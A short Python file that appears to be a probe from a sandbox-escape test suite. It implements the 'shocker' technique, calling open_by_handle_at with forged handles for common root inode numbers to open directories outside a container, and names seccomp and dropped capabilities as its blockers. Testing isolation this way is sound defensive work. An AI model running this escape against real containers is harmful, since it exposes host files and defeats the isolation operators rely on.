"""Open files of the machine by their inode numbers.

Technique: open_by_handle_at(2) with a made-up handle: inode 2 is the root of every ext4, 128 that of most XFS. Any descriptor on
    the same file system will do, and /usr is one. The "shocker" exploit of 2014 read the host's files this way from Docker.
Success: a directory above what is shown is opened.
Stopped by: seccomp, no_capabilities
"""
import struct


def attack():
    won = []
    for start in ("/usr", "/env", "/etc/alternatives", "/dev/null"):
        if not os.path.exists(start):
            continue
        mount = os.open(start, os.O_RDONLY)
        for inode in (2, 64, 96, 128, 256):
            # struct file_handle: length, type (32-bit inode number and generation), handle.
            handle = struct.pack("=IiII", 8, 1, inode, 0)
            fd = answer(syscall, "open_by_handle_at", mount, handle, os.O_RDONLY)
            if isinstance(fd, int):
                won.append(f"inode {inode} of {start}: {answer(os.listdir, fd)[:5]}")
                os.close(fd)
        os.close(mount)
    return won and f"{won}"


def twin():
    """Opening a file again by the descriptor one holds of it."""
    with open("/usr/lib/os-release") as file:
        with open(f"/proc/self/fd/{file.fileno()}") as again:
            assert again.read() == file.read() != ""
